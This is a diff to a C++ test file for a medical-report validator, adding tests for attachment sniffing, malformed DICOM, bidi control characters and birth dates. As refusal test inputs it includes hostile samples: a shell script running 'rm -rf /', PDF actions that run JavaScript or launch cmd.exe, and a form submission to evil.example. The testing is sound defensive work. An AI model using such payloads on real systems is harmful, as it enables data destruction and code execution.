@@ -34,20 +34,156 @@ TEST(ActiveContentTest, RefusesMarkupButKeepsClinicalComparisons) {
   }
 }
 
-TEST(SniffTest, KnownTypesAndRefusals) {
-  EXPECT_EQ(SniffContentType("%PDF-1.7 ..."), "application/pdf");
-  EXPECT_EQ(SniffContentType("\x89PNG\r\n\x1a\n...."), "image/png");
-  EXPECT_EQ(SniffContentType("\xFF\xD8\xFF\xE0...."), "image/jpeg");
-  EXPECT_EQ(SniffContentType("plain notes\n"), "text/plain");
-  EXPECT_EQ(SniffContentType("MZ\x90\x00"), "");
-  EXPECT_EQ(SniffContentType("\x7f"
-                             "ELF\x02"),
-            "");
-  EXPECT_EQ(SniffContentType("#!/bin/sh\nrm -rf /"), "");
-  EXPECT_EQ(SniffContentType("PK\x03\x04zip"), "");
-  EXPECT_EQ(SniffContentType("<html><body>hi</body></html>"), "");
-  EXPECT_EQ(SniffContentType(std::string("bin\0ary", 7)), "");
-  EXPECT_EQ(SniffContentType("\xff\xfe bad utf8"), "");
+// The one sniffer (content/sniff) is the one reports go through: every refusal comes back as a field issue.
+std::string Dicom(std::string_view after_magic) {
+  std::string d(128, '\0');
+  d += "DICM";
+  d += after_magic;
+  return d;
+}
+
+std::string WellFormedDicom() {
+  // (0002,0000) UL 4 = 28; (0002,0010) UI "1.2.840.10008.1.2.1\0"; then (0008,0060) CS "OT".
+  std::string meta("\x02\x00\x00\x00UL\x04\x00\x1c\x00\x00\x00", 12);
+  meta += std::string("\x02\x00\x10\x00UI\x14\x00", 8) + std::string("1.2.840.10008.1.2.1\0", 20);
+  meta += std::string(
+      "\x08\x00\x60\x00"
+      "CS\x02\x00OT",
+      10);
+  return Dicom(meta);
+}
+
+FieldIssue OnlyIssue(const std::string& data, const std::string& declared = "") {
+  ReportInput in = Good();
+  in.attachments = {{"file.bin", declared, data}};
+  std::vector<FieldIssue> issues;
+  auto v = ValidateReport(in, ValidationPolicy{}, &issues);
+  if (v.ok() || issues.size() != 1) return {};
+  return issues[0];
+}
+
+TEST(AttachmentSniffTest, PdfActionsAreActiveContentEvenWhenTheirNamesAreEscaped) {
+  for (const char* pdf : {
+           "%PDF-1.7\n1 0 obj << /Type /Action /S /JavaScript /JS (app.alert(1)) >> endobj",
+           "%PDF-1.7\n1 0 obj << /S/JS(x) >> endobj",
+           "%PDF-1.4\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS 5 0 R >> >>",
+           "%PDF-1.4\n<< /OpenAction 3 0 R >>\n3 0 obj<</S/Launch/F(cmd.exe)>>endobj",
+           "%PDF-1.4\n<< /Type /Page /AA << /O 4 0 R >> >>",
+           "%PDF-1.4\n<< /S /#4A#61vaScript /#4A#53 (app.alert(1)) >>",  // /JavaScript and /JS, hex-escaped
+           "%PDF-1.4\n<< /S /J#61v#61Script >>",
+           "%PDF-1.4\n<< /S /L#61unch >>",
+           "%PDF-1.4\n<< /Names << /#45mbeddedFiles 2 0 R >> >>",
+           "%PDF-1.4\n<< /S /SubmitForm /F (https://evil.example/) >>",
+       }) {
+    FieldIssue issue = OnlyIssue(pdf, "application/pdf");
+    EXPECT_EQ(issue.field, "attachments[0].data") << pdf;
+    EXPECT_EQ(issue.code, "active_content") << pdf;
+  }
+  // A viewer-only action and names that merely contain the letters are fine.
+  ReportInput in = Good();
+  in.attachments = {{"scan.pdf", "application/pdf",
+                     "%PDF-1.7\n<< /Type /Catalog /OpenAction [3 0 R /FitH null] /JSX 1 /AAB 2 >>\n(JS text)"}};
+  std::vector<FieldIssue> issues;
+  auto ok = ValidateReport(in, ValidationPolicy{}, &issues);
+  ASSERT_TRUE(ok.ok()) << (issues.empty() ? "" : issues[0].message);
+  EXPECT_EQ(ok->attachments[0].content_type, "application/pdf");
+}
+
+TEST(AttachmentSniffTest, DicomMustBeWellFormed) {
+  ReportInput in = Good();
+  in.attachments = {{"ct.dcm", "application/dicom", WellFormedDicom()}};
+  std::vector<FieldIssue> issues;
+  auto ok = ValidateReport(in, ValidationPolicy{}, &issues);
+  ASSERT_TRUE(ok.ok()) << (issues.empty() ? "" : issues[0].message);
+  EXPECT_EQ(ok->attachments[0].content_type, "application/dicom");
+
+  std::string well = WellFormedDicom();
+  for (const std::string& bad : {
+           Dicom(""),                                                                   // magic only
+           Dicom(std::string("\x02\x00\x00\x00UL\x04\x00", 8)),                         // value past the end
+           Dicom(std::string("\x02\x00\x10\x00UI\xff\x7f", 8) + "1.2.840"),             // length past the end
+           Dicom(std::string("\x02\x00\x00\x00\x01\x02\x04\x00\x1c\x00\x00\x00", 12)),  // VR is not letters
+           Dicom(std::string("\x02\x00\x00\x00UL\x04\x00\x1c\x00\x00\x00", 12)),  // no transfer syntax, no data set
+           well.substr(0, well.size() - 10),                                      // meta group, no data set
+           Dicom(std::string("\x02\x00\x01\x00OB\x00\x00\xff\xff\xff\xff", 12)),  // undefined length in the meta
+       }) {
+    FieldIssue issue = OnlyIssue(bad, "application/dicom");
+    EXPECT_EQ(issue.field, "attachments[0].data");
+    EXPECT_EQ(issue.code, "malformed");
+  }
+}
+
+TEST(AttachmentSniffTest, ExecutablesArchivesAndMismatchesAreUnsupported) {
+  for (const char* bytes : {"MZ\x90\x00",
+                            "\x7f"
+                            "ELF\x02",
+                            "#!/bin/sh\nrm -rf /", "PK\x03\x04zip", "\x1f\x8b\x08\x00gzip"}) {
+    EXPECT_EQ(OnlyIssue(bytes).code, "unsupported_type") << bytes;
+  }
+  EXPECT_EQ(OnlyIssue(std::string("bin\0ary", 7)).code, "unsupported_type");
+  EXPECT_EQ(OnlyIssue("<html><body>hi</body></html>").code, "active_content");
+  EXPECT_EQ(OnlyIssue("%PDF-1.4 body", "image/png").code, "unsupported_type");
+  EXPECT_EQ(OnlyIssue("%PDF-1.4 body", " Application/PDF ; x=y").code, "");  // accepted
+}
+
+TEST(BidiControlTest, RefusedInEveryReportTextFieldWithThePreciseField) {
+  // U+202A..U+202E (LRE RLE PDF LRO RLO) and U+2066..U+2069 (LRI RLI FSI PDI).
+  const char* controls[] = {"\xE2\x80\xAA", "\xE2\x80\xAB", "\xE2\x80\xAC", "\xE2\x80\xAD", "\xE2\x80\xAE",
+                            "\xE2\x81\xA6", "\xE2\x81\xA7", "\xE2\x81\xA8", "\xE2\x81\xA9"};
+  for (const char* c : controls) {
+    std::string text = std::string("dose 5 mg ") + c + "gm 005";
+    for (const char* field : {"title", "diagnosis", "content", "attachments[0].filename"}) {
+      ReportInput in = Good();
+      std::string f = field;
+      if (f == "title") in.title = text;
+      if (f == "diagnosis") in.diagnosis = text;
+      if (f == "content") in.content = text;
+      in.attachments = {{f == "attachments[0].filename" ? text : "notes.txt", "", "plain notes"}};
+      std::vector<FieldIssue> issues;
+      auto v = ValidateReport(in, ValidationPolicy{}, &issues);
+      ASSERT_FALSE(v.ok()) << field;
+      EXPECT_EQ(v.error().code, "validation_failed");
+      ASSERT_EQ(issues.size(), 1u) << field;
+      EXPECT_EQ(issues[0].field, f);
+      EXPECT_EQ(issues[0].code, "bidi_control");
+    }
+    // Other free text (names, reasons, purposes) is checked with CheckPlainText or ContainsActiveContent.
+    EXPECT_EQ(CheckPlainText("name", text)->code, "bidi_control");
+    EXPECT_EQ(CheckPlainText("name", text)->field, "name");
+    EXPECT_TRUE(ContainsActiveContent(text));
+  }
+  // Marks that only hint direction (LRM U+200E, RLM U+200F), the narrow no-break space U+202F and
+  // right-to-left script are fine.
+  for (const char* ok : {"a\xE2\x80\x8E"
+                         "b",
+                         "a\xE2\x80\x8F"
+                         "b",
+                         "5\xE2\x80\xAF"
+                         "mg",
+                         "\xD7\xA9\xD7\x9C\xD7\x95\xD7\x9D"}) {
+    EXPECT_FALSE(ContainsBidiControl(ok)) << ok;
+    EXPECT_FALSE(CheckPlainText("x", ok).has_value());
+  }
+}
+
+TEST(BirthDateTest, From1900ToTodayAndOnlyRealDays) {
+  Timestamp now = Timestamp::FromRfc3339("2026-12-07T01:00:00Z").value();
+  EXPECT_FALSE(CheckBirthDate("1950-06-01", now).has_value());  // was refused: before 1970
+  EXPECT_FALSE(CheckBirthDate("1900-01-01", now).has_value());
+  EXPECT_FALSE(CheckBirthDate("1969-12-31", now).has_value());
+  EXPECT_FALSE(CheckBirthDate("2024-02-29", now).has_value());
+  EXPECT_FALSE(CheckBirthDate("2026-12-07", now).has_value());  // today in UTC
+  EXPECT_FALSE(CheckBirthDate("2026-12-07", now).has_value());
+  EXPECT_EQ(CheckBirthDate("1899-12-31", now)->code, "too_early");
+  EXPECT_EQ(CheckBirthDate("2023-02-29", now)->code, "invalid");
+  EXPECT_EQ(CheckBirthDate("1950-6-1", now)->code, "invalid");
+  EXPECT_EQ(CheckBirthDate("", now)->code, "invalid");
+  EXPECT_EQ(CheckBirthDate("2026-12-09", now)->code, "in_future");
+  EXPECT_EQ(CheckBirthDate("2026-12-09", now)->field, "birthDate");
+  // At 11:00 UTC it is already the 8th at UTC+14: a newborn registered there is not "in the future".
+  Timestamp late = Timestamp::FromRfc3339("2026-12-07T11:00:00Z").value();
+  EXPECT_FALSE(CheckBirthDate("2026-12-08", late).has_value());
+  EXPECT_EQ(CheckBirthDate("2026-12-08", now)->code, "in_future");
 }
 
 TEST(ValidateReportTest, AcceptsAndNormalizes) {
